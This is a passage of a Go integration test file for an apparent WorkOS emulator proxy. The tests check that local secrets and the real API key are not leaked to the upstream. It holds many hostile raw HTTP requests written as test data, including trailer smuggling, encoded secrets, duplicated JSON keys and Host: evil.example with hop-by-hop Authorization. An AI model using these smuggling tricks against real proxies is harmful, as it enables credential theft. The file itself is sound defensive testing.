package integration

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// wire is an upstream over plain TCP that keeps every byte it gets.
type wire struct {
	URL string
	mu  sync.Mutex
	got bytes.Buffer
	// answer, if not nil, answers a request; the default is an empty list.
	answer func(conn net.Conn, r *http.Request, rest *bufio.Reader) bool
}

func (w *wire) Write(p []byte) (int, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.got.Write(p)
}

func (w *wire) take() string {
	w.mu.Lock()
	defer w.mu.Unlock()
	text := w.got.String()
	w.got.Reset()
	return text
}

func newWire(t *testing.T) *wire {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { listener.Close() })
	w := &wire{URL: "http://" + listener.Addr().String()}
	go func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			go func() {
				defer conn.Close()
				in := bufio.NewReader(io.TeeReader(conn, w))
				for {
					r, err := http.ReadRequest(in)
					if err != nil {
						return
					}
					if w.answer != nil && w.answer(conn, r, in) {
						return
					}
					if _, err := io.Copy(io.Discard, r.Body); err != nil {
						return
					}
					body := `{"object":"list","data":[],"list_metadata":{"before":null,"after":null}}`
					fmt.Fprintf(conn, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
				}
			}()
		}
	}()
	return w
}

// attacked is a short form in front of a wire. {$PORT} speaks HTTP/1.1 and h2c.
func attacked(t *testing.T, w *wire) *process {
	t.Helper()
	seed := filepath.Join(t.TempDir(), "seed.yaml")
	write(t, seed, mixSeed)
	p := startConfig(t, fmt.Sprintf("{\n\tservers {\n\t\tprotocols h1 h2c\n\t}\n}\nhttp://:{$PORT} {\n\tbind 127.0.0.1\n\tworkos {\n\t\tseed %s\n\t\tupstream %s {\n\t\t\tapi_key {env.WORKOS_API_KEY}\n\t\t}\n\t}\n}\n", seed, w.URL), "WORKOS_API_KEY="+realKey)
	w.take()
	return p
}

// dialSite opens a raw connection to the site.
func dialSite(t *testing.T, p *process) net.Conn {
	t.Helper()
	conn, err := net.Dial("tcp", strings.TrimPrefix(strings.Replace(p.URL, "localhost", "127.0.0.1", 1), "http://"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	_ = conn.SetDeadline(time.Now().Add(20 * time.Second))
	return conn
}

// talk sends bytes and returns the status line and body of the answer.
func talk(t *testing.T, p *process, request string) string {
	t.Helper()
	conn := dialSite(t, p)
	go func() { _, _ = io.WriteString(conn, request) }()
	response, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		return "no answer: " + err.Error()
	}
	body, _ := io.ReadAll(response.Body)
	return response.Status + " " + string(body)
}

func chunked(body string) string { return fmt.Sprintf("%x\r\n%s\r\n", len(body), body) }

// TestHostileOpaqueTarget: a request target of an unknown scheme is opaque to net/url, and net/http sends it as it is.
func TestHostileOpaqueTarget(t *testing.T) {
	t.Parallel()
	w := newWire(t)
	p := attacked(t, w)
	for _, target := range []string{"x:sk_local_customer", "x:local-client-secret/a", "mailto:sk_local_trusted?a=b"} {
		said := talk(t, p, "GET "+target+" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
		if sent := w.take(); strings.Contains(sent, "sk_local") || strings.Contains(sent, "local-client") {
			t.Errorf("%s: the upstream was sent %q (answer %q)", target, sent, said)
		} else {
			t.Logf("%s: %q, sent %q", target, said, sent)
		}
	}
}

// TestHostileTrailerOfCrossCheck: the emulator's own request for an organization takes the caller's trailers along.
func TestHostileTrailerOfCrossCheck(t *testing.T) {
	t.Parallel()
	w := newWire(t)
	p := attacked(t, w)
	body := `{"name":"x","application_type":"m2m","organization_id":"org_REAL"}`
	said := talk(t, p, "POST /connect/applications HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sk_local_trusted\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nTrailer: X-Key\r\nConnection: close\r\n\r\n"+
		chunked(body)+"0\r\nX-Key: sk_local_customer\r\n\r\n")
	if sent := w.take(); strings.Contains(sent, "sk_local") {
		t.Errorf("the upstream was sent %q (answer %q)", sent, said)
	} else {
		t.Logf("%q, sent %q", said, sent)
	}
}

// h2Upstream is an upstream that speaks HTTP/2, as the real WorkOS does, and keeps trailers.
func h2Upstream(t *testing.T) (url, ca string, take func() string) {
	t.Helper()
	var mu sync.Mutex
	var got []string
	s := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		announced := fmt.Sprint(r.Trailer)
		_, _ = io.Copy(io.Discard, r.Body)
		mu.Lock()
		got = append(got, fmt.Sprintf("%s %s %s trailers announced %s, sent %v", r.Proto, r.Method, r.URL, announced, r.Trailer))
		mu.Unlock()
		_, _ = io.WriteString(w, `{"object":"list","data":[],"list_metadata":{"before":null,"after":null}}`)
	}))
	s.EnableHTTP2 = true
	s.StartTLS()
	t.Cleanup(s.Close)
	ca = filepath.Join(t.TempDir(), "ca.pem")
	write(t, ca, string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: s.Certificate().Raw})))
	return s.URL, ca, func() string {
		mu.Lock()
		defer mu.Unlock()
		all := strings.Join(got, "\n")
		got = nil
		return all
	}
}

// TestHostileTrailersOfOwnRequestsOverHTTP2: the emulator's own requests, for merged lists and cross-checks, take the caller's
// trailers along to an upstream that speaks HTTP/2.
func TestHostileTrailersOfOwnRequestsOverHTTP2(t *testing.T) {
	t.Parallel()
	upstream, ca, take := h2Upstream(t)
	seed := filepath.Join(t.TempDir(), "seed.yaml")
	write(t, seed, mixSeed)
	p := startConfig(t, fmt.Sprintf("http://:{$PORT} {\n\tbind 127.0.0.1\n\tworkos {\n\t\tseed %s\n\t\tupstream %s {\n\t\t\tapi_key {env.WORKOS_API_KEY}\n\t\t\ttls_trust_pool file %s\n\t\t}\n\t}\n}\n", seed, upstream, ca), "WORKOS_API_KEY="+realKey)
	take()
	for name, request := range map[string]string{
		"cross-check": "POST /connect/applications HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sk_local_trusted\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nTrailer: X-Key\r\nConnection: close\r\n\r\n" +
			chunked(`{"name":"x","application_type":"m2m","organization_id":"org_REAL"}`) + "0\r\nX-Key: sk_local_customer\r\n\r\n",
		"merged list": "GET /organizations HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sk_local_trusted\r\nTransfer-Encoding: chunked\r\nTrailer: sk_local_customer\r\nConnection: close\r\n\r\n0\r\n\r\n",
	} {
		said := talk(t, p, request)
		if sent := take(); strings.Contains(strings.ToLower(sent), "sk_local") {
			t.Errorf("%s: the upstream was sent %s (answer %q)", name, sent, said)
		} else {
			t.Logf("%s: %q, sent %s", name, said, sent)
		}
	}
}

// TestHostileTrailerNameOfMergedList: a merged list is asked for with the names of the caller's trailers.
func TestHostileTrailerNameOfMergedList(t *testing.T) {
	t.Parallel()
	w := newWire(t)
	p := attacked(t, w)
	said := talk(t, p, "GET /organizations HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sk_local_trusted\r\nTransfer-Encoding: chunked\r\nTrailer: sk_local_customer, X-Key\r\nConnection: close\r\n\r\n0\r\nX-Key: local-client-secret\r\n\r\n")
	if sent := w.take(); strings.Contains(strings.ToLower(sent), "sk_local") || strings.Contains(sent, "local-client-secret") {
		t.Errorf("the upstream was sent %q (answer %q)", sent, said)
	} else {
		t.Logf("%q, sent %q", said, sent)
	}
}

// TestHostileTrailerNameOfLargeBody: the names of trailers are announced before a large body has been looked at.
func TestHostileTrailerNameOfLargeBody(t *testing.T) {
	t.Parallel()
	w := newWire(t)
	p := attacked(t, w)
	said := talk(t, p, "POST /echo/x HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nTrailer: sk_local_customer\r\nConnection: close\r\n\r\n"+
		chunked(strings.Repeat("abc \n", 400_000))+"0\r\n\r\n")
	if sent := w.take(); strings.Contains(strings.ToLower(sent), "sk_local") {
		t.Errorf("the upstream was sent %.300q (answer %q)", sent, said)
	} else {
		t.Logf("%q, sent %.300q", said, sent)
	}
}

// TestHostileTrailerOverHTTP2: a request with content-length 0 may have trailers in HTTP/2, and is not looked at.
func TestHostileTrailerOverHTTP2(t *testing.T) {
	t.Parallel()
	w := newWire(t)
	p := attacked(t, w)
	conn := dialSite(t, p)
	_, _ = io.WriteString(conn, http2.ClientPreface)
	framer := http2.NewFramer(conn, conn)
	_ = framer.WriteSettings()
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", "/echo/x"}, {":authority", "x"}, {"content-length", "0"}, {"trailer", "x-key"}} {
		_ = encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	_ = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block.Bytes(), EndHeaders: true})
	block.Reset()
	_ = encoder.WriteField(hpack.HeaderField{Name: "x-key", Value: "sk_local_customer"})
	_ = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block.Bytes(), EndHeaders: true, EndStream: true})
	for ended := false; !ended; {
		frame, err := framer.ReadFrame()
		if err != nil {
			t.Logf("read: %v", err)
			break
		}
		switch f := frame.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				_ = framer.WriteSettingsAck()
			}
		case *http2.DataFrame:
			t.Logf("data %s", f.Data())
			ended = f.StreamEnded()
		case *http2.HeadersFrame:
			ended = f.StreamEnded()
		case *http2.RSTStreamFrame, *http2.GoAwayFrame:
			t.Logf("%v", f)
			ended = true
		}
	}
	if sent := w.take(); strings.Contains(sent, "sk_local") {
		t.Errorf("the upstream was sent %q", sent)
	} else {
		t.Logf("sent %q", sent)
	}
}

// TestHostileUpgrade asks for a tunnel, which nobody could look into: the request goes on as one that asks for none.
func TestHostileUpgrade(t *testing.T) {
	t.Parallel()
	w := newWire(t)
	w.answer = func(conn net.Conn, r *http.Request, in *bufio.Reader) bool {
		if r.Header.Get("Upgrade") == "" {
			return false
		}
		fmt.Fprintf(conn, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: %s\r\n\r\n", r.Header.Get("Upgrade"))
		_, _ = io.Copy(io.Discard, in)
		return true
	}
	p := attacked(t, w)
	conn := dialSite(t, p)
	_, _ = io.WriteString(conn, "GET /echo/x HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n")
	response, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatal(err)
	}
	if sent := w.take(); response.StatusCode != http.StatusOK || strings.Contains(sent, "Upgrade: ") {
		t.Errorf("%s; the upstream was sent %q", response.Status, sent)
	}
}

// recordOrReplay is a site where a header decides whether recordings answer or the real WorkOS does.
func recordOrReplay(t *testing.T, w *wire, seeded bool, site string) *process {
	t.Helper()
	folder := t.TempDir()
	options := ""
	if err := os.Mkdir(filepath.Join(folder, "fixtures"), 0o700); err != nil {
		t.Fatal(err)
	}
	if seeded {
		write(t, filepath.Join(folder, "seed.yaml"), mixSeed)
		options = " {\n\t\tseed " + filepath.Join(folder, "seed.yaml") + "\n\t}"
	}
	p := startConfig(t, fmt.Sprintf("http://:{$PORT} {\n\tbind 127.0.0.1\n\tworkos_emulator%s\n%s\n}\n", options,
		strings.NewReplacer("FIXTURES", filepath.Join(folder, "fixtures"), "UPSTREAM", w.URL).Replace(site)), "WORKOS_API_KEY="+realKey)
	w.take()
	return p
}

const (
	replayUnlessLive = `
	@replay not header X-Live 1
	workos_fixtures @replay FIXTURES {
		mode replay
	}
	reverse_proxy UPSTREAM {
		transport workos {
			api_key {env.WORKOS_API_KEY}
		}
	}`
	proxyIfLive = `
	@live query live=1
	reverse_proxy @live UPSTREAM {
		transport workos {
			api_key {env.WORKOS_API_KEY}
		}
	}`
)

// TestHostileBuiltInKeyByMatcher: a matcher that looks at a header sends the probe to the recordings, and the request to the
// real WorkOS.
func TestHostileBuiltInKeyByMatcher(t *testing.T) {
	t.Parallel()
	w := newWire(t)
	p := recordOrReplay(t, w, false, replayUnlessLive)
	said := talk(t, p, "GET /echo/x HTTP/1.1\r\nHost: x\r\nX-Live: 1\r\nAuthorization: Bearer sk_test_default\r\nConnection: close\r\n\r\n")
	if sent := w.take(); sent != "" {
		t.Errorf("%q; the upstream was sent %q", said, sent)
	}
}

// TestHostileSecretByMatcher is the same for what must not leave.
func TestHostileSecretByMatcher(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct{ site, target string }{
		"replay unless live": {replayUnlessLive, "/echo/x?k=sk_local_customer"},
		"proxy if live":      {proxyIfLive, "/echo/x?live=1&k=sk_local_customer"},
	} {
		w := newWire(t)
		p := recordOrReplay(t, w, true, test.site)
		said := talk(t, p, "GET "+test.target+" HTTP/1.1\r\nHost: x\r\nX-Live: 1\r\nConnection: close\r\n\r\n")
		if sent := w.take(); strings.Contains(sent, "sk_local") {
			t.Errorf("%s: %q; the upstream was sent %q", name, said, sent)
		}
	}
}

// TestHostileEncodedSecretInLargeBody: nothing of an encoded secret in a large body is sent.
func TestHostileEncodedSecretInLargeBody(t *testing.T) {
	t.Parallel()
	w := newWire(t)
	p := attacked(t, w)
	encoded := "local-client-secret"
	for range 3 { // percent-encoded three times, all of it: 27 characters for each
		var again strings.Builder
		for _, c := range []byte(encoded) {
			fmt.Fprintf(&again, "%%%02x", c)
		}
		encoded = again.String()
	}
	// The screen looks at chunks of 64 KiB: let one end just before the secret does.
	const boundary = 20 << 16
	body := strings.Repeat("x ", boundary)[:boundary-len(encoded)+1] + encoded
	body += strings.Repeat(" x", 1<<16)
	said := talk(t, p, fmt.Sprintf("POST /echo/x HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(body), body))
	sent := w.take()
	if at := strings.Index(sent, encoded[:5]); at >= 0 {
		text := sent[at : at+(len(sent)-at)/27*27]
		for range 3 {
			text, _ = url.PathUnescape(text)
		}
		t.Errorf("%.80q: of local-client-secret the upstream was sent %q", said, text)
	}
}

const attackProxy = "reverse_proxy UPSTREAM {\n\ttransport workos {\n\t\tapi_key {env.WORKOS_API_KEY}\n\t}\n}\n"

// TestHostileBuiltInKeyAccepted: the key that everybody knows is given as accept_key.
func TestHostileBuiltInKeyAccepted(t *testing.T) {
	t.Parallel()
	for name, seed := range map[string]string{"no seed": "", "seed": mixSeed, "in the seed": "apiKeys: {sk_test_default: {}}\n"} {
		w := newWire(t)
		folder := t.TempDir()
		write(t, filepath.Join(folder, "seed.yaml"), seed)
		p := launchConfig(t, fmt.Sprintf("http://:{$PORT} {\n\tbind 127.0.0.1\n\tworkos_emulator {\n\t\tseed %s\n\t\taccept_key sk_test_default\n\t}\n%s\n}\n", filepath.Join(folder, "seed.yaml"), strings.ReplaceAll(attackProxy, "UPSTREAM", w.URL)), "WORKOS_API_KEY="+realKey)
		eventually(t, "an answer or an end", func() bool {
			select {
			case <-p.exited:
				return true
			default:
				response, err := http.Get(p.URL + "/health")
				if err == nil {
					response.Body.Close()
				}
				return err == nil
			}
		})
		select {
		case <-p.exited:
			t.Logf("%s: does not start", name)
			continue
		default:
		}
		w.take()
		said := talk(t, p, "GET /echo/x HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sk_test_default\r\nConnection: close\r\n\r\n")
		if sent := w.take(); strings.Contains(sent, realKey) {
			t.Errorf("%s: %q; the upstream was sent %q", name, said, sent)
		}
	}
}

// TestHostileTwoHandlers of one instance: what is a key for one is a local secret for the other.
func TestHostileTwoHandlers(t *testing.T) {
	t.Parallel()
	w := newWire(t)
	other := freePort(t)
	p := startConfig(t, strings.ReplaceAll(fmt.Sprintf("http://:{$PORT} {\n\tbind 127.0.0.1\n\tworkos_emulator {\n\t\taccept_key {env.WORKOS_API_KEY}\n\t}\n%s}\nhttp://:%d {\n\tbind 127.0.0.1\n\tworkos_emulator\n%s}\n", attackProxy, other, attackProxy), "UPSTREAM", w.URL), "WORKOS_API_KEY="+realKey)
	q := *p
	q.URL = fmt.Sprintf("http://localhost:%d", other)
	w.take()
	for name, site := range map[string]*process{"with accept_key": p, "without": &q} {
		for _, request := range []string{
			"GET /echo/x HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sk_test_default\r\nConnection: close\r\n\r\n",
			"GET /organizations HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sk_test_default\r\nConnection: close\r\n\r\n",
			"POST /connect/applications HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sk_test_default\r\nContent-Type: application/json\r\nContent-Length: 65\r\nConnection: close\r\n\r\n" + `{"name":"x","application_type":"m2m","organization_id":"org_REAL"}`[:65],
			"POST /user_management/authenticate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 35\r\nConnection: close\r\n\r\n" + `{"client_secret":"sk_test_default"}`,
		} {
			said := talk(t, site, request)
			if sent := w.take(); strings.Contains(sent, realKey) {
				t.Errorf("%s: %.60q: %q; the upstream was sent %q", name, request, said, sent)
			}
		}
	}
}

// TestHostileLoginFailsOver: a login whose key was exchanged goes to the second upstream where the first is down.
func TestHostileLoginFailsOver(t *testing.T) {
	t.Parallel()
	w := newWire(t)
	seed := filepath.Join(t.TempDir(), "seed.yaml")
	write(t, seed, mixSeed)
	p := startConfig(t, fmt.Sprintf("http://:{$PORT} {\n\tbind 127.0.0.1\n\tworkos_emulator {\n\t\tseed %s\n\t}\n\treverse_proxy http://127.0.0.1:%d %s {\n\t\tlb_policy first\n\t\tlb_try_duration 3s\n\t\tlb_try_interval 50ms\n\t\tfail_duration 10s\n\t\ttransport workos {\n\t\t\tapi_key {env.WORKOS_API_KEY}\n\t\t}\n\t}\n}\n", seed, freePort(t), w.URL), "WORKOS_API_KEY="+realKey)
	for name, body := range map[string]string{"exchanged": `{"client_secret":"sk_local_trusted"}`, "as it came": `{"client_secret":"sk_some_other_one"}`} {
		// Let the passive health check forget.
		q := startConfig(t, fmt.Sprintf("http://:{$PORT} {\n\tbind 127.0.0.1\n\tworkos_emulator {\n\t\tseed %s\n\t}\n\treverse_proxy http://127.0.0.1:%d %s {\n\t\tlb_policy first\n\t\tlb_try_duration 3s\n\t\tlb_try_interval 50ms\n\t\tfail_duration 10s\n\t\ttransport workos {\n\t\t\tapi_key {env.WORKOS_API_KEY}\n\t\t}\n\t}\n}\n", seed, freePort(t), w.URL), "WORKOS_API_KEY="+realKey)
		status, _, said := ask(t, "POST", q.URL+"/user_management/authenticate", "", "application/json", body)
		if status != 200 {
			t.Errorf("%s: %d %s", name, status, said)
		}
	}
	_ = p
}

// TestHostileArrangements: where an emulator stands before the transport, the configuration loads; where none does, it does not.
func TestHostileArrangements(t *testing.T) {
	t.Parallel()
	proxy := strings.ReplaceAll(attackProxy, "UPSTREAM", "https://api.workos.com")
	port := fmt.Sprint(freePort(t))
	for name, test := range map[string]struct {
		config string
		fails  bool
	}{
		"handle":                       {"http://:PORT {\nworkos_emulator\nhandle /a* {\n" + proxy + "}\nhandle {\n" + proxy + "}\n}\n", false},
		"route in handle":              {"http://:PORT {\nhandle {\nroute {\nworkos_emulator\nroute {\n" + proxy + "}\n}\n}\n}\n", false},
		"named proxy":                  {"&(real) {\n" + proxy + "}\nhttp://:PORT {\nroute {\nworkos_emulator\ninvoke real\n}\n}\n", false},
		"named emulator in a subroute": {"&(mixed) {\nhandle {\nworkos_emulator\n}\n}\nhttp://:PORT {\nroute {\ninvoke mixed\n" + proxy + "}\n}\n", false},
		"named of named":               {"&(b) {\n" + proxy + "}\n&(a) {\nworkos_emulator\ninvoke b\n}\nhttp://:PORT {\ninvoke a\n}\n", false},
		"handle_errors":                {"http://:PORT {\nroute {\nworkos_emulator\nerror 503\n}\nhandle_errors {\n" + proxy + "}\n}\n", false},
		"in handle_response":           {"http://:PORT {\nworkos_emulator\nreverse_proxy 127.0.0.1:1 {\nhandle_response {\n" + proxy + "}\n}\n}\n", false},
		"emulator in handle_response":  {"http://:PORT {\nreverse_proxy 127.0.0.1:1 {\nhandle_response {\nroute {\nworkos_emulator\n" + proxy + "}\n}\n}\n}\n", false},
		"intercept":                    {"http://:PORT {\nworkos_emulator\nintercept {\nhandle_response {\n" + proxy + "}\n}\nrespond x\n}\n", false},
		"unused named emulator":        {"&(mixed) {\nworkos_emulator\n}\nhttp://:PORT {\n" + proxy + "}\n", true},
		"named route with the proxy":   {"&(real) {\n" + proxy + "}\nhttp://:PORT {\ninvoke real\n}\n", true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			path := filepath.Join(t.TempDir(), "Caddyfile")
			write(t, path, "{\n\tadmin off\n}\n"+strings.ReplaceAll(test.config, "PORT", port))
			stdout, stderr, err := run(t, []string{"WORKOS_API_KEY=" + realKey}, "", "validate", "--config", path)
			if (err != nil) != test.fails {
				said := stdout + stderr
				t.Errorf("fails: %t; want %t: %s", err != nil, test.fails, said[max(len(said)-400, 0):])
			}
		})
	}
}

// TestHostileDocumentsOfTwoUpstreams: two composed sites of one instance, each with its own upstream, have one JWKS.
func TestHostileDocumentsOfTwoUpstreams(t *testing.T) {
	t.Parallel()
	jwks := func(kid string) *wire {
		w := newWire(t)
		w.answer = func(conn net.Conn, r *http.Request, in *bufio.Reader) bool {
			if r.URL.Path != "/oauth2/jwks" {
				return false
			}
			body := `{"keys":[{"kid":"` + kid + `","kty":"RSA","alg":"RS256","use":"sig","n":"AQAB","e":"AQAB"}]}`
			fmt.Fprintf(conn, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
			return true
		}
		return w
	}
	a, b := jwks("of_a"), jwks("of_b")
	other := freePort(t)
	p := startConfig(t, fmt.Sprintf("http://:{$PORT} {\n\tbind 127.0.0.1\n\tworkos_emulator\n\treverse_proxy %s\n}\nhttp://:%d {\n\tbind 127.0.0.1\n\tworkos_emulator\n\treverse_proxy %s\n}\n", a.URL, other, b.URL))
	_, _, first := ask(t, "GET", p.URL+"/oauth2/jwks", "", "", "")
	_, _, second := ask(t, "GET", fmt.Sprintf("http://localhost:%d/oauth2/jwks", other), "", "", "")
	if strings.Contains(first, "of_b") || strings.Contains(second, "of_a") || !strings.Contains(second, "of_b") {
		t.Errorf("a: %s; b: %s", first, second)
	}
}

// TestHostileOddRequests are requests with a local secret in places of which there is only one kind of each.
func TestHostileOddRequests(t *testing.T) {
	t.Parallel()
	w := newWire(t)
	p := attacked(t, w)
	var zipped bytes.Buffer
	z := gzip.NewWriter(&zipped)
	_, _ = io.WriteString(z, `{"a":"sk_local_customer"}`)
	z.Close()
	basic := base64.StdEncoding.EncodeToString([]byte("sk_local_customer:"))
	end := "Connection: close\r\n\r\n"
	for name, request := range map[string]string{
		"double slash":       "GET //sk_local_customer/x HTTP/1.1\r\nHost: x\r\n" + end,
		"absolute":           "GET http://sk_local_customer/x HTTP/1.1\r\nHost: x\r\n" + end,
		"absolute, user":     "GET http://u:sk_local_customer@x/x HTTP/1.1\r\nHost: x\r\n" + end,
		"absolute, scheme":   "GET sklocal+sk-local-customer://x/x HTTP/1.1\r\nHost: x\r\n" + end,
		"OPTIONS":            "OPTIONS * HTTP/1.1\r\nHost: sk_local_customer\r\n" + end,
		"CONNECT":            "CONNECT sk_local_customer:443 HTTP/1.1\r\nHost: sk_local_customer:443\r\n" + end,
		"method":             "sk_local_customer /x HTTP/1.1\r\nHost: x\r\n" + end,
		"HTTP/1.0":           "GET /x?k=sk_local_customer HTTP/1.0\r\n\r\n",
		"HTTP/1.0 body":      "POST /x HTTP/1.0\r\nContent-Length: 17\r\n\r\nsk_local_customer",
		"header name":        "GET /x HTTP/1.1\r\nHost: x\r\nsk_local_customer: 1\r\n" + end,
		"two Authorization":  "GET /x HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sk_theirs\r\nAuthorization: Basic " + basic + "\r\n" + end,
		"Proxy-Auth":         "GET /x HTTP/1.1\r\nHost: x\r\nProxy-Authorization: Basic " + basic + "\r\n" + end,
		"Connection":         "GET /x HTTP/1.1\r\nHost: x\r\nConnection: sk_local_customer, close\r\n\r\n",
		"TE":                 "GET /x HTTP/1.1\r\nHost: x\r\nTE: trailers, sk_local_customer\r\n" + end,
		"Upgrade":            "GET /x HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: sk_local_customer\r\n\r\n",
		"Expect":             "POST /x HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: 17\r\n" + end + "sk_local_customer",
		"chunk extension":    "POST /x HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n" + end + "1;k=sk_local_customer\r\na\r\n0\r\n\r\n",
		"chunks":             "POST /x HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n" + end + "3\r\nsk_\r\n5\r\nlocal\r\n9\r\n_customer\r\n0\r\n\r\n",
		"undeclared trailer": "POST /x HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n" + end + "1\r\na\r\n0\r\nX-Key: sk_local_customer\r\n\r\n",
		"declared another":   "POST /x HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nTrailer: X-A\r\n" + end + "1\r\na\r\n0\r\nX-A: 1\r\nX-Key: sk_local_customer\r\n\r\n",
		"no body, trailer":   "POST /x HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nTrailer: X-Key\r\n" + end + "0\r\nX-Key: sk_local_customer\r\n\r\n",
		"gzip, two fields":   fmt.Sprintf("POST /x HTTP/1.1\r\nHost: x\r\nContent-Encoding: identity\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n%s%s", zipped.Len(), end, zipped.String()),
		"gzip, other case":   fmt.Sprintf("POST /x HTTP/1.1\r\nHost: x\r\nContent-Encoding: GZip\r\nContent-Length: %d\r\n%s%s", zipped.Len(), end, zipped.String()),
		"gzip, tab":          fmt.Sprintf("POST /x HTTP/1.1\r\nHost: x\r\nContent-Encoding: \tx-gzip\t,\r\nContent-Length: %d\r\n%s%s", zipped.Len(), end, zipped.String()),
		"login, BOM":         "POST /sso/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 40\r\n" + end + "\ufeff" + `{"client_secret":"sk_local_customer"}`,
		"login, semicolon":   "POST /sso/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 35\r\n" + end + "a=b;client_secret=sk_local_customer",
		"login, nested":      "POST /sso/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 42\r\n" + end + `{"a":{"client_secret":"sk_local_trusted"}}`,
		"login, escaped":     "POST /sso/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 41\r\n" + end + `{"client\u005fsecret":"sk_local_trusted"}`,
		"login, twice":       "POST /sso/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 73\r\n" + end + `{"client_secret":"sk_local_trusted","client_secret":"sk\u005flocal_trusted"}`[:73],
		"login, trailing":    "POST /sso/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 72\r\n" + end + `{"client_secret":"sk_local_trusted"} {"client_secret":"sk_local_trusted"}`,
		"login, other case":  "POST /sso/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 36\r\n" + end + `{"Client_Secret":"sk_local_trusted"}`,
		"login, array":       "POST /sso/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 38\r\n" + end + `[{"client_secret":"sk_local_trusted"}]`,
		"login, path":        "POST //sso/./token/ HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 36\r\n" + end + `{"client_secret":"sk_local_trusted"}`,
		"JWKS":               "GET /sso/jwks/sk_local_customer HTTP/1.1\r\nHost: sk_local_customer\r\nX-Forwarded-Host: sk_local_customer\r\n" + end,
		"Bearer, tab":        "GET /x HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer\tsk_local_trusted\r\n" + end,
		"Bearer, comma":      "GET /x HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sk_theirs, Bearer sk_local_trusted\r\n" + end,
		"hop by hop":         "GET /x HTTP/1.1\r\nHost: x\r\nConnection: Authorization, close\r\nAuthorization: Bearer sk_local_customer\r\n\r\n",
	} {
		said := talk(t, p, request)
		sent := w.take()
		if strings.Contains(strings.ToLower(sent), "sk_local") || strings.Contains(sent, basic) || strings.Contains(sent, zipped.String()) {
			t.Errorf("%s: %.200q; the upstream was sent %q", name, said, sent)
		} else {
			t.Logf("%s: %.60q; %.150q", name, said, sent)
		}
	}
}

// TestHostileKeyWithUpgrade: the real key goes out with an upgrade, as with any request, to the upstream only.
func TestHostileHopByHopKey(t *testing.T) {
	t.Parallel()
	w := newWire(t)
	p := attacked(t, w)
	for _, request := range []string{
		"GET /x HTTP/1.1\r\nHost: evil.example\r\nConnection: Authorization, close\r\nAuthorization: Bearer sk_local_trusted\r\n\r\n",
		"GET /x HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\nAuthorization: Bearer sk_theirs\r\nAuthorization: Bearer sk_local_trusted\r\n\r\n",
